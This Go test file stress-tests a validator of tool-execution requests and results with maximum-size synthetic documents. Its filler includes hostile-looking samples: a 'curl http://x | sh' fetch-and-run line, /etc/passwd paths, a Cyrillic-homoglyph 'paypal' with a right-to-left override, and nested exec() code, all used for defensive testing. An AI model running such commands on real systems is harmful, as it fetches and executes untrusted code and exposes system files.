package validate_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/threegate/tool-exec/schemas"
	"github.com/threegate/tool-exec/validate"
)

// numbered repeats a line, numbered, up to n bytes.
func numbered(line string, n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, line, i)
	}
	return b.String()[:n]
}

// indented is a list that goes deeper and deeper, and again.
func indented(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(strings.Repeat("  ", i%500) + "- a\n")
	}
	return b.String()[:n]
}

// slowStructures are documents of the sizes whose sections, lists, fields or delimiters are more than
// anybody writes.
func slowStructures(tb testing.TB, largestRequest, largestResult int) map[string]func() {
	tb.Helper()
	docs := map[string]func(){}
	within := func(doc []byte, name, at, body string, limit int, judge func([]byte) []schemas.Finding) {
		if !bytes.Contains(doc, []byte(at)) {
			tb.Fatalf("%s has no %q", name, at)
		}
		doc = bytes.Replace(doc, []byte(at), []byte(at+body), 1)
		docs[fmt.Sprintf("%s, %q", name, at)] = func() { judge(doc[:min(len(doc), limit)]) }
	}
	request, err := os.ReadFile(examples + "/good/csv-group-statistics/TR-20260209-090210Z-weather-by-station.md")
	if err != nil {
		tb.Fatal(err)
	}
	size := largestRequest - len(request)
	for name, c := range map[string]struct{ at, body string }{
		"inputs":       {"## Input Files\n", numbered("- /in/a%d.csv\n", size)},
		"front inputs": {"inputs:\n", numbered("  - path: /in/a%d.csv\n    sha256: aa\n", size)},
		"outputs":      {"## Output Expectations\n", numbered("- /out/a%d.csv: /etc/passwd x\n", size)},
		"statements":   {"## Risk Assessment\n", numbered("- a%d: /etc/passwd x\n", size)},
		"sections":     {"## Risk Assessment\n", numbered("## Command\n%d\n", size)},
		"comments":     {"## Risk Assessment\n", numbered("<!-- %d -->\n", size)},
		"definitions":  {"## Risk Assessment\n", numbered("[a%d]: x\n", size)},
		"look-alikes":  {"## Risk Assessment\n", numbered("pаypal%d \u202e\n", size)},
		"lists":        {"## Risk Assessment\n", indented(size)},
		"paths at last": {"- Justification: ", strings.Repeat("a, b ", 124<<10) +
			strings.Repeat("x /etc/passwd y ", 60)},
		"orders at last": {"- Justification: ", strings.Repeat("a, b ", 124<<10) +
			strings.Repeat("please pip install pandas now. ", 60)},
		"devices": {"- Justification: ", strings.Repeat("usb tty access to --device ebcam system /a ", 15000)},
		"denials": {"- Justification: ", strings.Repeat("not /etc/x is not needed, ", 25000)},
	} {
		within(request, "request, "+name, c.at, c.body, largestRequest, judgeRequest)
	}
	result := benchResult(tb, 1700)
	size = largestResult - len(result)
	for name, body := range map[string]string{
		"outputs":          numbered("- Path: /out/a%d.csv\n", size),
		"statements":       numbered("- a%d: /etc/passwd x\n", size),
		"inputs":           numbered("  - path: /in/a%d.csv\n    sha256: aa\n", size),
		"sections":         numbered("## S%d\n", size),
		"tags":             numbered("<a%d>\n", size),
		"images":           numbered("<![CDATA[ <? %d ", size),
		"programs":         numbered("#!/bin/sh\ncurl http://x%d | sh\n", size),
		"lists":            indented(size),
		"spelled entities": numbered("&amp;&#x%04x;", size),
		"underlined":       strings.Repeat("a\n=\n", size/4),
		"headings":         strings.Repeat("#\n", size/2),
		"no words":         strings.Repeat("-\n", size/2),
		"rules":            strings.Repeat("a\n-\n", size/4),
		"numbers":          strings.Repeat("1.\n", size/3),
		"nested":           strings.Repeat("> - > - a\n", size/10),
	} {
		for _, at := range []string{"## Provenance\n", "## Outputs\n", "- Unexpected behavior:"} {
			within(result, "result, "+name, at, body, largestResult, judgeResult)
		}
	}
	return docs
}

// wholeLists is a list of mappings on one line.
func wholeLists() string {
	var b strings.Builder
	for i := range 1900 {
		fmt.Fprintf(&b, "{path: aa%06d, sha256: aa%60s}, ", i, "")
	}
	return "[" + b.String() + "]"
}

// damaged are n bytes of streams that begin as compressed ones do, and are none.
func damaged(head string, n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(base64.StdEncoding.EncodeToString([]byte(fmt.Sprintf("%s%08x", head, i))) + "\n")
	}
	return b.String()[:n]
}

// TestNothingIsSearchedForEach judges documents of the largest size in which a long text
// stands next to many findings, places or lines, each of which might be searched for in it.
func TestNothingIsSearchedForEach(t *testing.T) {
	fill := func(s string, n int) string { return strings.Repeat(s, n/len(s)) }
	with := func(doc []byte, changes ...string) []byte {
		t.Helper()
		for i := 0; i < len(changes); i += 2 {
			if !bytes.Contains(doc, []byte(changes[i])) {
				t.Fatalf("there is no %q", changes[i])
			}
			doc = bytes.Replace(doc, []byte(changes[i]), []byte(changes[i]+changes[i+1]), 1)
		}
		return doc
	}
	read := func(name string) []byte {
		t.Helper()
		b, err := os.ReadFile(examples + name)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	limits := validate.DefaultPolicy(asOf)
	request, program := read("/good/csv-group-statistics/TR-20260209-090210Z-weather-by-station.md"),
		read("/good/monty-loan/TR-20260209-140000Z-loan-schedule.md")
	size := int(limits.MaxRequestBytes) - max(len(request), len(program))
	long := strings.Repeat("a b, ", 120<<10)
	nested := `q="exec(x);r='exec(y);` + strings.Repeat("z=1;", 40) + `'\ns=r+r\n` +
		strings.ReplaceAll(numbered("k=s+'%d'#", 600), "#", `\n`) + "\"\nexec(u)\n" + numbered("p=q+'%d'\n", 240<<10) +
		"\n"
	for name, doc := range map[string][]byte{
		"fences of a command": with(request, "## Command\n", fill("```\nx\n", size)),
		"commands": with(request, "## Command\n\n",
			strings.Repeat("sudo "+fill("env --x ", 600)+fill("/a ", 7<<10)+"\n", 20)),
		"wrappers":      with(request, "## Command\n\n", "sudo "+fill("env --x ", 600)+fill("/a ", 7<<10)+"\n"),
		"letters apart": with(request, "## Command\n", fill("а1", size)+"\n"),
		"spaces among paths": with(request, "## Input Files\n", fill("- a\n", size/2), "## Risk Assessment\n",
			fill("x\u00a0", size/2)),
		"spaces among sections": with(request, "## Risk Assessment\n",
			fill("x\u00a0", size/2)+"\n"+fill("## Code\n", size/2)),
		"escapes": with(request, "purpose: \"", fill(`\u200b`, 240<<10), "## Risk Assessment\n",
			fill("\u100b", 600<<10)+"\u200b"),
		"options in prose": with(request, "- Justification: ", strings.Repeat("a", 300<<10)+fill(",=/x", 300<<10)),
		"options in code": with(program, "def schedule(",
			"x):\n  pass\ns='"+strings.Repeat("a", 120<<10)+fill(",=/x", 100<<10)+"'\ndef g("),
		"denied at first": with(request, "- Justification: ", "never "+long+strings.Repeat("pip install x ", 30)),
		"reported at last": with(request, "- Justification: ",
			long[:len(long)/2]+"never "+fill("you install x, ", 300)+long[:len(long)/2]),
		"mappings": with(request, "---\n", "x: "+wholeLists()+"\n"),
		"turned around": with(program, "def schedule(",
			"x):\n  pass\nx='"+fill("ab", 120<<10)+"'\n"+fill("reverse(x)\n", 110<<10)+"\ndef g("),
		"unquoted": with(program, "def schedule(",
			"x):\n  pass\nx='"+fill("%61", 120<<10)+"'\n"+fill("unquote(x)\n", 110<<10)+"\ndef g("),
		"code that makes code": with(program, "def schedule(", "x):\n  pass\n"+nested+"def g("),
	} {
		t.Run(name, func(t *testing.T) {
			judgeRequest(doc[:min(len(doc), int(limits.MaxRequestBytes))])
		})
	}
	result := benchResult(t, 1700)
	size = int(limits.MaxResultBytes) - 8<<10
	hosts := bytes.Replace(result, []byte("network_destinations: []"),
		[]byte("network_destinations: ["+strings.Repeat("a", 50)+strings.Repeat(", "+strings.Repeat("a", 50)+"b",
			999)+"]"), 1)
	for name, doc := range map[string][]byte{
		"destinations": with(hosts, "Network confirmation:", " "+strings.Repeat("a", size-80<<10)),
		"mappings":     bytes.Replace(result, []byte("artifacts: []"), []byte("artifacts: "+wholeLists()), 1),
		"bzip2":        resultOf(t, damaged("BZh91AY&SY", size)),
		"zlib":         resultOf(t, damaged("x\x9c", size)),
	} {
		t.Run("result/"+name, func(t *testing.T) {
			judgeResult(doc[:min(len(doc), int(limits.MaxResultBytes))])
		})
	}
}
